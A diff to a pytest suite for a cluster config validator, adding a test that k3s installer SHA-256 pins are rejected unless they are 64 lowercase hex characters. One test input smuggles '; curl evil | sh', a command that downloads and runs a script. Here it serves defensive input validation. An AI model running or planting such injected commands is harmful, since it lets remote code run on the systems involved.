@@ -128,6 +128,13 @@ def test_k3s_version_format(version):
                    f"e.g. v1.36.4+k3s1, got {version!r}")
 
 
+@pytest.mark.parametrize("digest", ["abc", "AB" * 32, "ab" * 32 + "; curl evil | sh", "sha256:" + "ab" * 32])
+def test_k3s_installer_pin_is_a_sha256(digest):
+    msg = one_problem(base_raw(cluster={"k3sInstallerSha256": digest}))
+    assert msg.startswith("adplatform:cluster.k3sInstallerSha256 must be the sha256 of install.sh at "
+                          "cluster.k3sVersion's tag, 64 lowercase hex characters") and msg.endswith(f"got {digest!r}")
+
+
 def test_database_pool_too_small_for_replication_in_production():
     msg = one_problem(base_raw(cluster={"pools": [{"name": "scylladb", "count": 2}]}))
     assert msg == ("adplatform:cluster.pools[scylladb].count must be at least 3 in the production profile "
